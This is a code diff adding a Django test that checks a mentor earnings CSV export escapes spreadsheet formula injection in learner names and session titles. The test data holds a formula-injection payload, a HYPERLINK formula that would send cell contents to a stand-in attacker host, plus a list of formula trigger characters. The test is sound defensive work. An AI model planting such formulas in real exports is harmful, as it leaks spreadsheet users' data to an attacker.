@@ -208,6 +208,18 @@ def test_earnings_statement_pending_then_available_and_csv(client, guru, learner
     assert rows[1][2:] == ["Intro to Django", "Asha Learner", "1000.00", "100.00", "900.00", "Available"]
 
 
+def test_the_earnings_csv_never_carries_a_formula(client, guru, learner, django_capture_on_commit_callbacks):
+    """A learner (and a session title) named like a formula lands in earnings.csv as text."""
+    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Refund")'
+    learner.name = hostile
+    learner.save(update_fields=["name"])
+    session = session_make(mentor=guru, price_paise=100_000, title="@SUM(A1:A9)")
+    booking_accept(booking=book_and_pay(session, learner), mentor=guru)
+    rows = list(csv.reader(io.StringIO(client.get("/dashboard/mentor/earnings.csv").content.decode())))
+    assert rows[1][2:5] == ["'@SUM(A1:A9)", "'" + hostile, "1000.00"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
 def _totp_device(user) -> TOTPDevice:
     return TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
 
